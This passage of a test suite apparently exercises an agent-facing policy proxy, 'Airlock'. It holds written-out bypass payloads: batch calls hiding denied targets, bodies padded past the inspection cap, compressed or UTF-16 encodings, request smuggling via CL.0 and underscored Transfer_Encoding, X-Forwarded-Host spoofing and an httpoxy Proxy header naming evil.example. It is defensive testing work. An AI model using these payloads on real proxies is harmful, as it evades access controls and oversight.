  for (const [i, [name, shape]] of Object.entries(phpShapes).entries()) {
    const before = batchRan.length;
    const [okRes] = parseResponses((await post(...shape('ok/dav/a.txt'), i % 2 === 0)).text);
    t.ok(okRes?.status === 200 && batchRan.slice(before).some((c) => c.endsWith('/ok/dav/a.txt')), `control: a batch of allowed calls as PHP reads it (${name}) goes through and runs (${okRes?.status})`);
    const mid = batchRan.length;
    const [res] = parseResponses((await post(...shape('deny/secret.txt'), i % 2 === 1)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(mid).some((c) => c.includes('/deny')), `a batch as PHP reads it (${name}) calling /deny: decided (${res?.status})`);
  }
  // Salesforce: a composite graph's calls, a tree's nested record, a collection's record (POST, PATCH).
  const sf = '/services/data/v58.0/composite';
  t.match((await post(`${sf}/tree/Account`, 'application/json', JSON.stringify({ records: [{ attributes: { type: 'Account', referenceId: 'a' }, Name: 'x', Contacts: { records: [{ attributes: { type: 'Contact', referenceId: 'c' }, LastName: 'y' }] } }] }), false)).text, /^HTTP\/1\.1 200/, 'control: a tree of allowed types goes through');
  t.match((await post(sf, 'application/json', JSON.stringify({ compositeRequest: [{ method: 'POST', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { records: [{ attributes: { type: 'Account' }, Name: 'x' }] } }] }), false)).text, /^HTTP\/1\.1 200/, 'control: a composite\'s collection of allowed types goes through');
  for (const [i, [method, path, envelope]] of ([
    ['POST', `${sf}/graph`, { graphs: [{ graphId: 'g', compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }, { method: 'DELETE', url: '/services/data/v58.0/sobjects/Deny__c/002', referenceId: 'b' }] }] }],
    ['POST', `${sf}/tree/Account`, { records: [{ attributes: { type: 'Account', referenceId: 'a' }, Name: 'x', Denies__r: { records: [{ attributes: { type: 'Deny__c', referenceId: 'd' }, Name: 'y' }] } }] }],
    ['POST', `${sf}/sobjects`, { allOrNone: false, records: [{ attributes: { type: 'Account' }, Name: 'x' }, { attributes: { type: 'Deny__c' }, Name: 'y' }] }],
    ['PATCH', `${sf}/sobjects`, { records: [{ attributes: { type: 'Deny__c' }, id: 'a0B000000000001', Name: 'y' }] }],
    // Sixteenth pass: a second target naming its own — a composite's sObject Collections call, whose records name their types.
    ['POST', sf, { compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/sobjects/Account/001', referenceId: 'a' }, { method: 'POST', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { allOrNone: true, records: [{ attributes: { type: 'Account' }, Name: 'x' }, { attributes: { type: 'Deny__c' }, Name: 'y' }] } }] }],
    ['POST', sf, { compositeRequest: [{ method: 'PATCH', url: '/services/data/v58.0/composite/sobjects', referenceId: 'c', body: { records: [{ attributes: { type: 'Deny__c' }, id: 'a0B000000000001', Name: 'y' }] } }] }],
  ] as const).entries()) {
    const [res] = parseResponses((await post(path, 'application/json', JSON.stringify(envelope), i % 2 === 1, method)).text);
    t.ok(res?.status === 403 && isProblem(res), `Salesforce ${method} ${path.slice(sf.length)} writing a denied type: 403 (${res?.status})`);
  }
  // A collection delete names records by id: typed by the id's key prefix, a custom object's refused.
  t.match((await post(`${sf}/sobjects?ids=001000000000001,003000000000002AAA`, '', '', false, 'DELETE')).text, /^HTTP\/1\.1 200/, 'control: a collection delete of accounts and contacts goes through');
  for (const [i, ids] of ['005000000000001', '001000000000001,005000000000001AAA', 'a0B000000000001', '001000000000001&ids=a0B000000000001'].entries()) {
    const [res] = parseResponses((await post(`${sf}/sobjects?ids=${ids}`, '', '', i % 2 === 1, 'DELETE')).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `a collection delete of ${ids}: refused (${res?.status})`);
  }
  t.notOk(batchRan.some((c) => /^DELETE record (?:005|a0B)/.test(c)), 'no user or custom record was deleted by a collection delete');
  // A path the server fills from an earlier call's answer (a reference) anywhere but its id: refused.
  const ref = (url: string): unknown => ({ compositeRequest: [{ method: 'GET', url: '/services/data/v58.0/query?q=SELECT+Id+FROM+Account', referenceId: 'q' }, { method: 'DELETE', url, referenceId: 'd' }] });
  t.match((await post(sf, 'application/json', JSON.stringify(ref('/services/data/v58.0/sobjects/Account/@{q.records[0].Id}')), false)).text, /^HTTP\/1\.1 200/, 'control: a reference in the id position goes through');
  const [filled] = parseResponses((await post(sf, 'application/json', JSON.stringify(ref('/services/data/v58.0/sobjects/@{q.records[0].attributes.type}/001')), false)).text);
  t.ok(filled?.status === 400 && isProblem(filled), `a reference in the type position: 400 (${filled?.status})`);
  const [fbFilled] = parseResponses((await post(...place('form', [{ method: 'GET', relative_url: 'ok/dav/a.txt', name: 'q' }, { method: 'DELETE', relative_url: '{result=q:$.folder}/secret.txt' }]), false)).text);
  t.ok(fbFilled?.status === 400 && isProblem(fbFilled), `a Graph batch call whose path an earlier answer fills: 400 (${fbFilled?.status})`);
  t.notOk(batchRan.some((c) => c.includes('Deny__c')), 'the server never wrote a record of the denied type');
  // Sixteenth pass (left open by the fifteenth): a `batch` field past the capture cap (2 KiB here,
  // 1 MiB by default) was never read: the description and the readers see the captured start only
  // (the reads up to the cap: a socket read is at most 64 KiB, so 300 KB of padding leaves the rest unread).
  const pad = 'x'.repeat(300_000);
  const calls = JSON.stringify([{ method: 'GET', relative_url: 'ok/dav/a.txt' }, { method: 'DELETE', relative_url: 'deny/secret.txt' }]);
  const [bigControl] = parseResponses((await post('/v19.0/', 'application/x-www-form-urlencoded', `pad=${pad}&note=${encodeURIComponent('a batch of notes')}`, false)).text);
  t.ok(bigControl !== undefined && !isProblem(bigControl), `control: a form past the cap without a batch field is forwarded (${bigControl?.status})`);
  const mp = (name: string, filler: string): string => `--fb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${filler}\r\n--fb\r\nContent-Disposition: form-data; ${name}\r\n\r\n${calls}\r\n--fb--\r\n`;
  const before = batchRan.length;
  for (const [i, [type, body]] of ([
    ['application/x-www-form-urlencoded', `pad=${pad}&batch=${encodeURIComponent(calls)}`],
    ['application/x-www-form-urlencoded', `pad=${pad}&b%61tch=${encodeURIComponent(calls)}&x=1`],
    ['application/x-www-form-urlencoded', `pad=${pad}${'&a=1'.repeat(500)}&batch=${encodeURIComponent(calls)}`],
    ['multipart/form-data; boundary=fb', mp('name="batch"', pad)],
    ['multipart/form-data; boundary=fb', mp("name*=utf-8''b%61tch", pad)],
  ] as const).entries()) {
    const [res] = parseResponses((await post('/v19.0/', type, body, i % 2 === 1)).text);
    t.ok(res?.status === 400 && isProblem(res), `a ${type.split(';')[0]} body with a batch field past the capture cap: 400 (${res?.status})`);
  }
  t.notOk(batchRan.slice(before).some((c) => c.includes('/deny')), 'no batch call past the capture cap ran under /deny');
  // Seventeenth pass: a JSON body's `batch` member, past the cap or before a padding the cap cuts
  // (the captured start is no whole JSON: the reader found no batch in it), ran every call.
  const jsonBefore = batchRan.length;
  const list = JSON.parse(calls) as unknown;
  for (const [i, body] of [
    JSON.stringify({ pad, batch: list }),
    JSON.stringify({ batch: list, pad }),
    JSON.stringify({ pad, batch: calls }),
    `{"pad": {"deep": [${JSON.stringify(pad)}, {"batch": "not this one"}]}, "b\\u0061tch": ${calls}}`,
    `{"pad": ${JSON.stringify(pad)} , "BATCH" : ${calls}}`,
  ].entries()) {
    const [res] = parseResponses((await post('/v19.0/', 'application/json', body, i % 2 === 1)).text);
    t.ok(res?.status === 400 && isProblem(res), `a JSON body with a batch member ${i} past the capture cap: 400 (${res?.status})`);
  }
  // Untyped (graphBatchOf reads JSON by its first byte, else a form).
  for (const body of [JSON.stringify({ pad, batch: list }), `pad=${pad}&batch=${encodeURIComponent(calls)}`]) {
    const [res] = parseResponses((await post('/v19.0/', undefined, body, false)).text);
    t.ok(res?.status === 400 && isProblem(res), `an untyped body with a batch past the capture cap (${body.slice(0, 4)}…): 400 (${res?.status})`);
  }
  const [jsonControl] = parseResponses((await post('/v19.0/', 'application/json', JSON.stringify({ pad, note: { batch: 'a nested member is no batch', list: ['batch'] } }), false)).text);
  t.ok(jsonControl !== undefined && !isProblem(jsonControl), `control: a JSON body past the cap whose batch is only nested or a value is forwarded (${jsonControl?.status})`);
  t.notOk(batchRan.slice(jsonBefore).some((c) => c.includes('/deny')), 'no JSON batch call past the capture cap ran under /deny');
});

t.test('property: an S3 form upload\'s key, a WebDAV REPORT, SEARCH, BIND or REBIND href, a SCIM Bulk operation, an Azure batch request, a Firestore write, read or query and a GCS compose source are decided as the request each amounts to', async (t) => {
  // `POST /ok` (a form upload whose `key` is protected/keep.txt) overwrote a key whose PUT the
  // policy refuses; `REPORT /ok/cal/` naming `/deny/cal/1.ics` returned it (SabreDAV reads any href).
  const dHost = `allowed.example:${dav.port}`;
  davFiles.set('/deny/cal/1.ics', 'BEGIN:VCALENDAR SECRET');
  davFiles.set('/ok/cal/1.ics', 'BEGIN:VCALENDAR');
  const send = (method: string, path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const form = (field: string, key: string, filename: string): string => `--X\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${key}\r\n--X\r\nContent-Disposition: form-data; name="policy"\r\n\r\neyJ9\r\n--X\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\noverwritten\r\n--X--\r\n`;
  const fsDocs = 'projects/p/databases/(default)/documents';
  const multiget = (root: string, hrefs: string[]): string => `<?xml version="1.0" encoding="utf-8"?><C:${root} xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/><C:calendar-data/></D:prop>${hrefs.map((h) => `<D:href>${h}</D:href>`).join('')}</C:${root}>`;
  t.equal(parseResponses((await send('POST', '/ok', 'multipart/form-data; boundary=X', form('key', 'uploads/${filename}', 'a.txt'), false)).text)[0]?.status, 204, 'control: a form upload to an allowed key goes through');
  t.equal(davFiles.get('/ok/uploads/a.txt'), 'overwritten', 'control: the store wrote it');
  const control = parseResponses((await send('REPORT', '/ok/cal/', 'application/xml', multiget('calendar-multiget', ['/ok/cal/1.ics']), false)).text)[0];
  t.equal(control?.status, 207, 'control: a multiget of allowed objects goes through');
  t.equal(parseResponses((await send('POST', '/scim/v2/Bulk', 'application/scim+json', JSON.stringify({ Operations: [{ method: 'POST', path: '/Users', data: {} }] }), false)).text)[0]?.status, 200, 'control: a SCIM bulk under the allowed root goes through');
  await fc.assert(fc.asyncProperty(
    fc.oneof(
      fc.record({ kind: fc.constant('form upload' as const), field: fc.constantFrom('key', 'KEY', 'Key'), key: fc.constantFrom('protected/keep.txt', 'protected/${filename}'), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('bind' as const), method: fc.constantFrom('BIND', 'REBIND'), href: fc.constantFrom('/deny/cal/1.ics', `http://${dHost}/deny/cal/1.ics`, '<![CDATA[/deny/cal/1.ics]]>'), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('dav' as const), method: fc.constantFrom('REPORT', 'SEARCH'), root: fc.constantFrom('calendar-multiget', 'addressbook-multiget'), href: fc.constantFrom('/deny/cal/1.ics', `http://${dHost}/deny/cal/1.ics`, '<![CDATA[/deny/cal/1.ics]]>', '/de<!-- x -->ny/cal/1.ics', '&#47;deny/cal/1.ics', '/ok/cal/../../deny/cal/1.ics'), position: fc.nat({ max: 1 }), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('scim' as const), path: fc.constantFrom('/../../deny/Users/1', '../../deny/x'), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('azure' as const), url: fc.constantFrom('/deny/subscriptions/s', `http://${dHost}/deny/subscriptions/s`), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('firestore' as const), op: fc.constantFrom('commit', 'batchWrite', 'batchGet', 'runQuery'), tunnel: fc.boolean() }),
      fc.record({ kind: fc.constant('compose' as const), source: fc.constantFrom('protected/keep.txt', 'protected-2024.csv'), tunnel: fc.boolean() }),
    ),
    async (c) => {
      const before = batchRan.length;
      let r: { text: string };
      if (c.kind === 'form upload') r = await send('POST', '/ok', 'multipart/form-data; boundary=X', form(c.field, c.key, 'keep.txt'), c.tunnel);
      else if (c.kind === 'bind') r = await send(c.method, '/ok/cal/', 'application/xml', `<?xml version="1.0"?><D:${c.method.toLowerCase()} xmlns:D="DAV:"><D:segment>bound.ics</D:segment><D:href>${c.href}</D:href></D:${c.method.toLowerCase()}>`, c.tunnel);
      else if (c.kind === 'dav') {
        const hrefs = ['/ok/cal/1.ics'];
        hrefs.splice(c.position, 0, c.href);
        r = await send(c.method, '/ok/cal/', 'application/xml', multiget(c.root, hrefs), c.tunnel);
      } else if (c.kind === 'scim') r = await send('POST', '/scim/v2/Bulk', 'application/scim+json', JSON.stringify({ schemas: ['urn:ietf:params:scim:api:messages:2.0:BulkRequest'], Operations: [{ method: 'DELETE', path: c.path }] }), c.tunnel);
      else if (c.kind === 'azure') r = await send('POST', '/batch?api-version=2020-06-01', 'application/json', JSON.stringify({ requests: [{ httpMethod: 'DELETE', url: c.url, name: 'x' }] }), c.tunnel);
      else if (c.kind === 'firestore') r = await send('POST', `/v1/projects/p/databases/(default)/documents:${c.op}`, 'application/json', JSON.stringify(c.op === 'commit' || c.op === 'batchWrite' ? { writes: [{ update: { name: `${fsDocs}/ok/1`, fields: {} } }, { delete: `${fsDocs}/deny/1` }] } : c.op === 'batchGet' ? { documents: [`${fsDocs}/ok/1`, `${fsDocs}/deny/1`] } : { structuredQuery: { from: [{ collectionId: 'deny' }] } }), c.tunnel);
      else r = await send('POST', '/storage/v1/b/ok/o/x/compose', 'application/json', JSON.stringify({ sourceObjects: [{ name: 'a.txt' }, { name: c.source }] }), c.tunnel);
      const [res] = parseResponses(r.text);
      return res !== undefined && [400, 403, 421].includes(res.status) && isProblem(res) && davFiles.get('/ok/protected/keep.txt') === 'kept' && !batchRan.slice(before).some((x) => x.includes('/deny') || x.includes('protected'));
    },
  ), { numRuns: Math.min(numRuns, 24), ...seed });
});

t.test('property: a second target in a body the server decodes (gzip, deflate, br; a byte order mark, UTF-16/32 JSON) is decided as in plain UTF-8', async (t) => {
  // The calls of a gzip'd OData `$batch`, the lines of a deflated `_bulk`, a UTF-16 or BOM-led JSON
  // batch were read as raw UTF-8 bytes: no call, no index, while the server decoded the body and ran them.
  const dHost = `allowed.example:${dav.port}`;
  const kinds = {
    'OData JSON batch': { path: '/ok/svc/$batch', type: 'application/json', body: JSON.stringify({ requests: [{ id: '1', method: 'GET', url: '/ok/dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] }) },
    'Elasticsearch _bulk': { path: '/ok/_bulk', type: 'application/x-ndjson', body: '{"index":{"_id":"1"}}\n{"a":1}\n{"delete":{"_index":"deny","_id":"1"}}\n' },
    'multipart batch': { path: '/ok/svc/$batch', type: 'multipart/mixed; boundary=b', body: '--b\r\nContent-Type: application/http\r\n\r\nGET /deny/secret.txt HTTP/1.1\r\n\r\n\r\n--b--\r\n' },
  } as const;
  const encode = (text: string, how: string): { bytes: Buffer; headers: string; charset?: string } => {
    switch (how) {
      case 'gzip': return { bytes: zlib.gzipSync(text), headers: 'Content-Encoding: gzip\r\n' };
      case 'deflate': return { bytes: zlib.deflateSync(text), headers: 'Content-Encoding: deflate\r\n' };
      case 'br': return { bytes: zlib.brotliCompressSync(text), headers: 'Content-Encoding: br\r\n' };
      case 'gzip, gzip': return { bytes: zlib.gzipSync(zlib.gzipSync(text)), headers: 'Content-Encoding: gzip, gzip\r\n' };
      case 'UTF-8 BOM': return { bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), headers: '' };
      case 'UTF-16LE BOM': return { bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), headers: '' };
      case 'charset=utf-16le': return { bytes: Buffer.from(text, 'utf16le'), headers: '', charset: 'utf-16le' };
      case 'UTF-8 labelled utf-16': return { bytes: Buffer.from(text.length % 2 ? `${text} ` : text), headers: '', charset: 'utf-16' };
      default: { // UTF-32LE without a mark: the NUL pattern of its first bytes
        const b = Buffer.alloc(text.length * 4);
        for (let i = 0; i < text.length; i++) b.writeUInt32LE(text.charCodeAt(i), 4 * i);
        return { bytes: b, headers: '' };
      }
    }
  };
  const send = (path: string, type: string, enc: { bytes: Buffer; headers: string; charset?: string }, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`Content-Type: ${type}${enc.charset ? `; charset=${enc.charset}` : ''}\r\n${enc.headers}Content-Length: ${enc.bytes.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n`), head, enc.bytes], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, enc.bytes], { responses: 1 });
  };
  const control = parseResponses((await send('/ok/_bulk', 'application/x-ndjson', encode('{"index":{"_id":"1"}}\n{"a":1}\n', 'gzip'), false)).text)[0];
  t.equal(control?.status, 200, 'control: a gzip\'d bulk on the path\'s own index goes through');
  t.equal(parseResponses((await send('/ok/svc/$batch', 'application/json', encode(JSON.stringify({ requests: [{ id: '1', method: 'GET', url: '/ok/dav/a.txt' }] }), 'UTF-16LE BOM'), false)).text)[0]?.status, 200, 'control: a UTF-16 batch of allowed calls goes through');
  await fc.assert(fc.asyncProperty(
    fc.record({
      kind: fc.constantFrom(...(Object.keys(kinds) as Array<keyof typeof kinds>)),
      how: fc.constantFrom('gzip', 'deflate', 'br', 'gzip, gzip', 'UTF-8 BOM', 'UTF-16LE BOM', 'charset=utf-16le', 'UTF-32LE', 'UTF-8 labelled utf-16'),
      tunnel: fc.boolean(),
    }).filter(({ kind, how }) => kind !== 'multipart batch' || ['gzip', 'deflate', 'br', 'gzip, gzip'].includes(how)),
    async ({ kind, how, tunnel }) => {
      const k = kinds[kind];
      const ran = [batchRan.length, esRan.length];
      const [res] = parseResponses((await send(k.path, k.type, encode(k.body, how), tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(ran[0]).some((c) => c.includes('/deny')) && !esRan.slice(ran[1]).some((r) => r.endsWith(' deny'));
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed });
  // UTF-8 labelled `charset=utf-16`: a reading by the label finds no batch, Go or Node runs the calls.
  const labelled = parseResponses((await send(kinds['OData JSON batch'].path, 'application/json', encode(kinds['OData JSON batch'].body, 'UTF-8 labelled utf-16'), false)).text)[0];
  t.equal(labelled?.status, 403, 'a UTF-8 batch labelled utf-16 is decided call by call');
  // A coded body Airlock cannot undo is refused where the server would run what it holds.
  const [bad] = parseResponses((await send('/ok/_bulk', 'application/x-ndjson', { bytes: Buffer.from('not gzip'), headers: 'Content-Encoding: gzip\r\n' }, false)).text);
  t.ok(bad?.status === 400 && isProblem(bad), `an Elasticsearch bulk that does not gunzip: 400 (${bad?.status})`);
});

t.test('property: a body an origin that ignores it could read as a request goes with Connection: close (Python http.server, CL.0)', async (t) => {
  const pyHost = `allowed.example:${pyPort}`;
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({
      method: fc.constantFrom('POST', 'PUT', 'PATCH', 'DELETE', 'GET', 'OPTIONS'),
      // Python splits the request line with str.split(): every Unicode blank of Latin-1 separates
      // (and leads) words there, the file/group/record/unit separators, NEL and NBSP included.
      lead: fc.constantFrom('', '\r\n', '\r\n\r\n', '  ', '\t', '\x1c', '\x1d\x1e', '\x1f', '\x85', '\xa0', '\x0b\x0c'),
      gap: fc.constantFrom(' ', '\x1c', '\x1f', '\x85', '\xa0', '\x0b', '\x0c'),
      line: fc.constantFrom(`GET_/deny/CL0_HTTP/1.1\r\nHost: ${pyHost}\r\n\r\n`, `DELETE_/deny/CL0_HTTP/1.0\r\n\r\n`, 'GET_/deny/CL0\r\n', `GET_/deny/CL0_HTTP/1.1\r\nHost: ${pyHost}\r\nContent-Length: 3\r\n\r\nabc`),
      chunked: fc.boolean(),
      pad: fc.constantFrom(0, 3000),
    }),
    async (c) => {
      const body = c.lead + c.line.replaceAll('_', c.gap) + 'x'.repeat(c.pad);
      const framing = c.chunked ? `Transfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n` : `Content-Length: ${body.length}\r\n\r\n${body}`;
      const r = await rawToProxy(a.port, Buffer.from(`${c.method} http://${pyHost}/ok/cl0-${++n} HTTP/1.1\r\nHost: ${pyHost}\r\n${auth}${framing}`, 'latin1'), { responses: 1 });
      return parseResponses(r.text)[0]?.status === 200 && pyLog.includes(`${c.method} /ok/cl0-${n} close`);
    },
  ), { numRuns, ...seed });
  // An ordinary body keeps the connection (this server then reads the JSON as a bad request line
  // and closes: its own CL.0, with nothing to run).
  const body = '{"a": "GET /x HTTP/1.1"}';
  const r = await rawToProxy(a.port, `POST http://${pyHost}/ok/keep HTTP/1.1\r\nHost: ${pyHost}\r\n${auth}Content-Length: ${body.length}\r\n\r\n${body}`, { responses: 1 });
  t.equal(parseResponses(r.text)[0]?.status, 200);
  t.ok(pyLog.includes('POST /ok/keep keep-alive'), 'a JSON body: the connection is kept');
  for (const [b, like] of [['{"a": 1}', false], ['a=1&b=2', false], ['\u0000GET /x', false], ['<p>GET', false], ['GET /x', true], ['\r\n\r\nPOST /x HTTP/1.1', true], ['M-SEARCH * HTTP/1.1', true], [' '.repeat(2000) + 'GET /x', true], ['x'.repeat(2000), true], ['Hello', false], ['\x1fGET /x', true], ['GET\x85/x', true], ['GET\xa0/x', true], ['\x00GET /x', false]] as const) {
    t.equal(readableAsRequest(Buffer.from(b, 'latin1')), like, `${JSON.stringify(b.slice(0, 30))}: ${like ? 'may' : 'cannot'} be read as a request`);
  }
  await new Promise((r) => setTimeout(r, 200));
  t.notMatch(pyLog, /\/deny/, 'the origin never ran a request read from a body');
});

t.test('a forwarding header naming another host (X-Forwarded-Host and kin, Forwarded host=) is refused on an allow: 421, nothing forwarded', async (t) => {
  // Express with `trust proxy`, Django's USE_X_FORWARDED_HOST, Symfony and Spring behind a proxy serve
  // the host these name: allowed.example's request would be answered as evil.example, which the policy denies.
  const tHost = `allowed.example:${tlsUp.port}`;
  const spellings = ['X-Forwarded-Host: evil.example', 'x-forwarded-host: allowed.example, evil.example', 'X_Forwarded_Host: evil.example',
    `X-Forwarded-Host: allowed.example:1`, 'Forwarded: for=1.2.3.4;host=evil.example;proto=https', 'Forwarded: host="evil.example:443"', 'X-Forwarded-Host: ',
    // Nineteenth pass: the other names servers take a host from (Azure's front ends and IIS ARR, Apache's mod_proxy, older PHP front controllers).
    'X-Original-Host: evil.example', 'x-host: evil.example', 'X-HTTP-Host-Override: evil.example', 'X-Forwarded-Server: evil.example', 'X.Original.Host: evil.example'];
  for (const [i, h] of spellings.entries()) {
    const r = await rawToProxy(a.port, `GET ${origin}/ok/fwd-${i} HTTP/1.1\r\nHost: ${host}\r\n${auth}${h}\r\n\r\n`, { responses: 1 });
    const [res] = parseResponses(r.text);
    t.ok(res?.status === 421 && isProblem(res), `${h}: 421 problem+json (got ${res?.status})`);
  }
  const tunneled = await exchange(await tlsTunnel(a.port, tHost, { auth: a.auth, ca: a.caPem }), `GET /ok/fwd-tunnel HTTP/1.1\r\nHost: ${tHost}\r\nX-Forwarded-Host: evil.example\r\n\r\n`, { responses: 1 });
  t.equal(parseResponses(tunneled.text)[0]?.status, 421, 'in a tunnel: 421');
  const curled = await curl(['-x', a.proxyUrl, '-o', '/dev/null', '-w', '%{http_code}', '-H', 'X-Forwarded-Host: evil.example', `${origin}/ok/fwd-curl`]);
  t.equal(curled.stdout, '421', 'curl: 421');
  t.notMatch(up.bytes() + tlsUp.bytes(), /\/ok\/fwd-/, 'nothing reached an upstream');
  // Naming the request's own host (a sidecar that forwards Host) is fine.
  for (const h of [`X-Forwarded-Host: ${host}`, 'X-Forwarded-Host: ALLOWED.example', `Forwarded: host=${host};proto=http`, `X-Original-Host: ${host}`, 'X-Forwarded-Server: allowed.example']) {
    const r = await rawToProxy(a.port, `GET ${origin}/ok/fwd-same HTTP/1.1\r\nHost: ${host}\r\n${auth}${h}\r\n\r\n`, { responses: 1 });
    t.equal(parseResponses(r.text)[0]?.status, 200, `${h}: forwarded`);
  }
  // Twelfth pass: the policy's Host header is the one the upstream gets, not the agent's spelling of the target.
  for (const [i, target] of [`ALLOWED.Example.:${up.port}`, `allowed.example.:${up.port}`, `allowed.example:0${up.port}`].entries()) {
    const r = await rawToProxy(a.port, `GET http://${target}/ok/host-spelling-${i} HTTP/1.1\r\nHost: ${target}\r\n${auth}\r\n`, { responses: 1 });
    t.equal(parseResponses(r.text)[0]?.status, 200, `${target}: forwarded`);
    await a.airlock.audit.flush();
    const seen = a.records.find((x) => x.url?.endsWith(`/ok/host-spelling-${i}`))?.description?.request.headers.host;
    t.same(seen, [up.received.find((x) => x.url === `/ok/host-spelling-${i}`)?.headers.host], `${target}: the policy saw the Host the upstream got (${seen})`);
  }
});

t.test('property: a framing header spelled with underscores (Transfer_Encoding, content_length, Content_Type) is refused: a CGI-keyed server (Puma before 6.4.3) never runs what follows a chunked terminator; nor gets a Proxy header (httpoxy)', async (t) => {
  const cHost = `allowed.example:${cgiPort}`;
  const body = `0\r\n\r\nGET /deny/SMUGGLED-cgi HTTP/1.1\r\nHost: ${cHost}\r\n\r\n`;
  // Control: an ordinary underscore header passes, and the server runs the one request.
  const control = await rawToProxy(a.port, `POST http://${cHost}/ok/cgi HTTP/1.1\r\nHost: ${cHost}\r\n${auth}X_Request_Id: 7\r\nContent-Length: 5\r\n\r\nhello`, { responses: 1 });
  t.equal(parseResponses(control.text)[0]?.status, 200, 'control: X_Request_Id is forwarded');
  t.same(cgiLog, ['POST /ok/cgi HTTP/1.1'], 'control: the server ran the one request');
  const framing: Record<string, string> = { 'transfer-encoding': 'chunked', 'content-length': '0', 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'identity' };
  const spelling = fc.constantFrom(...Object.keys(framing)).chain((name) => fc.tuple(
    fc.constant(name),
    fc.array(fc.boolean(), { minLength: name.length, maxLength: name.length }),
    fc.boolean(),
  ));
  await fc.assert(fc.asyncProperty(spelling, async ([name, upper, allUnderscore]) => {
    // Every dash an underscore, or only the first; letters in any case.
    let first = true;
    const spelled = [...name].map((ch, i) => {
      if (ch !== '-') return upper[i] ? ch.toUpperCase() : ch;
      const u = allUnderscore || first;
      first = false;
      return u ? '_' : '-';
    }).join('');
    const r = await rawToProxy(a.port, `POST http://${cHost}/ok/cgi-smuggle HTTP/1.1\r\nHost: ${cHost}\r\n${auth}${spelled}: ${framing[name]}\r\nContent-Length: ${body.length}\r\n\r\n${body}`, { responses: 1 });
    const [res] = parseResponses(r.text);
    return res?.status === 400 && isProblem(res) && !cgiLog.some((l) => l.includes('SMUGGLED') || l.includes('cgi-smuggle'));
  }), { numRuns: 20, ...seed });
  // The same inside a tunnel, for the plain spelling a Rack app behind Puma would have read.
  const tunneled = await rawToProxy(a.port, `CONNECT ${cHost} HTTP/1.1\r\n${auth}\r\nPOST /ok/cgi-smuggle HTTP/1.1\r\nHost: ${cHost}\r\nTransfer_Encoding: chunked\r\nContent-Length: ${body.length}\r\n\r\n${body}`, { responses: 1 });
  const [tr] = parseResponses(tunneled.text.replace(/^HTTP\/1\.1 200[^\r]*\r\n\r\n/, ''));
  t.ok(tr?.status === 400 && isProblem(tr), `in a tunnel: 400 problem+json (got ${tr?.status})`);
  // "httpoxy": a CGI-style server hands `Proxy` to its application as HTTP_PROXY, the proxy its
  // own HTTP clients then use, so the service's outgoing requests would go to the agent's choice.
  for (const name of ['Proxy', 'proxy', 'PROXY']) {
    const r = await rawToProxy(a.port, `GET http://${cHost}/ok/cgi-httpoxy HTTP/1.1\r\nHost: ${cHost}\r\n${auth}${name}: http://evil.example:8080\r\n\r\n`, { responses: 1 });
    const [res] = parseResponses(r.text);
    t.ok(res?.status === 400 && isProblem(res) && /httpoxy/.test(res.body), `${name}: 400 problem+json naming httpoxy (got ${res?.status})`);
  }
  t.same(cgiLog, ['POST /ok/cgi HTTP/1.1'], 'the server ran nothing but the control: no smuggled request, no refused one');
});

t.test('property: a header the request\'s Connection names goes upstream neither to the server nor in what the policy saw (RFC 9110 §7.6.1)', async (t) => {
  // A proxy removes the headers Connection names, and Airlock does; the policy must not judge them
  // either. `Content-Type: text/plain` named in Connection: the policy read a text body, while Rack
  // (Rails, Sinatra) takes an untyped POST for a form and runs its `_method=DELETE`.
  const rack = await rawToProxy(a.port, `POST ${origin}/keep/note HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Type: text/plain\r\nConnection: Content-Type\r\nContent-Length: 14\r\n\r\n_method=DELETE`, { responses: 1 });
  const [denied] = parseResponses(rack.text);
  t.ok(denied?.status === 403 && isProblem(denied), `the untyped form's DELETE is judged (got ${denied?.status})`);
  const tHost = `allowed.example:${tlsUp.port}`;
